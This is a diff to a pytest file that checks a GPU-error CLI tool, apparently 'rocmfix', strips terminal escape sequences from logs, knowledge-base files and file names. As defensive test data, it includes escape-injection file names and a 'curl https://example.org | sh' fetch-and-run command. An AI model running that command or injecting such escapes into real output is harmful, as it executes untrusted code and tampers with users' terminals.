@@ -76,7 +76,9 @@ def _snapshot(tmp_path: Path) -> Path:
 
 
 @pytest.mark.parametrize("extra", [[], ["--json"], ["--lang", "zh"], ["--top", "10"]])
-def test_a_log_with_terminal_escapes_is_printed_without_them(tmp_path: Path, extra: list[str]) -> None:
+def test_a_log_with_terminal_escapes_is_printed_without_them(
+    tmp_path: Path, extra: list[str]
+) -> None:
     log = tmp_path / "train.log"
     log.write_text(
         f"RuntimeError: HIP error: invalid device function {HOSTILE} after\n"
@@ -168,3 +170,17 @@ def test_a_user_kb_file_with_escapes_prints_none_of_them(tmp_path: Path) -> None
         out = _clean(_run(*args))
         assert "Team cause" in out, out
     assert "curl https://example.org | sh" in _clean(_run("kb", "show", "team-evil"))
+
+
+def test_refusals_and_warnings_naming_a_hostile_file_name_print_no_escapes(tmp_path: Path) -> None:
+    # A file name is foreign text too: a kb.d file, a node file, a path inside a snapshot.
+    name = "log\x1b]0;PWNED\x07\x1bc.txt"
+    for extra in ([], ["--json"]):
+        proc = _run("explain", "-f", str(tmp_path / name), *extra)
+        out = _clean(proc)
+        assert proc.returncode == 2 and "no such file" in out, out
+    kbd = Path(os.environ["XDG_CONFIG_HOME"]) / "rocmfix" / "kb.d"
+    kbd.mkdir(parents=True)
+    (kbd / "team\x1b]0;PWNED\x07.yaml").write_text("not: [valid")
+    out = _clean(_run("explain", "hipErrorNoBinaryForGpu"))
+    assert "warning" in out and "file skipped" in out, out
